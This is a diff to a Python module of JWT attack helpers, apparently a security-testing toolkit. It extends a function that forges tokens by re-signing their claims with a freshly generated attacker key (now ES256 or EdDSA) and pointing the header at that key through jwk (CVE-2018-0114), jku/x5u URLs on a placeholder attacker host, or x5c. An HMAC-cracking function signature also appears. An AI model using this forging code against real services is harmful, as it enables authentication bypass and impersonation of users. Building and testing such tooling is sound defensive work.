@@ -151,22 +151,31 @@ def public_key_from_jwk(jwk: dict[str, Any]) -> Any:
     return algo.from_jwk(json.dumps(jwk))
 
 
-def embedded_key(token: str, param: str, *, url: str = "https://attacker.invalid/keys", **payload_changes: Any) -> str:
-    """The token's claims signed with a fresh attacker key (ES256), the header pointing at that key through
-    `param`: `jwk` (the key itself, CVE-2018-0114), `jku` / `x5u` (a URL the attacker controls), or `x5c`."""
-    from cryptography.hazmat.primitives.asymmetric import ec
+def embedded_key(token: str, param: str, *, alg: str = "ES256", url: str = "https://attacker.invalid/keys",
+                 **payload_changes: Any) -> str:
+    """The token's claims signed with a fresh attacker key (`alg` ES256 or EdDSA), the header pointing at that
+    key through `param`: `jwk` (the key itself, CVE-2018-0114), `jku` / `x5u` (a URL the attacker controls), or
+    `x5c`."""
+    from cryptography.hazmat.primitives.asymmetric import ec, ed25519
 
-    attacker = ec.generate_private_key(ec.SECP256R1())
+    if alg == "EdDSA":
+        attacker: Any = ed25519.Ed25519PrivateKey.generate()
+        public_jwk = jwt.algorithms.OKPAlgorithm.to_jwk(attacker.public_key(), as_dict=True)
+    elif alg == "ES256":
+        attacker = ec.generate_private_key(ec.SECP256R1())
+        public_jwk = jwt.algorithms.ECAlgorithm.to_jwk(attacker.public_key(), as_dict=True)
+    else:
+        raise ValueError(f"embedded_key signs with ES256 or EdDSA, not {alg!r}")
     old_header, payload, _ = parts(token)
     value: Any = {
-        "jwk": jwt.algorithms.ECAlgorithm.to_jwk(attacker.public_key(), as_dict=True),
+        "jwk": public_jwk,
         "jku": url,
         "x5u": url,
         "x5c": ["MIIBszCCAVmgAwIBAgIU"],
     }[param]
     hdr = {k: v for k, v in old_header.items() if k != "alg"}
     hdr[param] = value
-    return jwt.PyJWS().encode(json.dumps(_changed(payload, payload_changes)).encode(), attacker, algorithm="ES256", headers=hdr)
+    return jwt.PyJWS().encode(json.dumps(_changed(payload, payload_changes)).encode(), attacker, algorithm=alg, headers=hdr)
 
 
 def crack_hmac(token: str, candidates: Iterable[str]) -> str | None:
